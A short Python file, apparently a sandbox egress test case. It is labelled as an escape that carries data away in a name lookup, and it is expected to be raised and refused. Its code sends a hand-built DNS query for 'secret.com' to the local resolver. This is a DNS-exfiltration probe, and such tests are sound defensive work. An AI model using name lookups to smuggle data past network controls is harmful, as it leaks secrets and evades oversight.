# ESCAPE: carry data away in a look-up of a name
# END: raised
# SAYS: refused
import socket


def run():
    query = bytes.fromhex("1234010000010000000000000673656372657403636f6d0000010001")
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.sendto(query, ("127.0.0.53", 53))
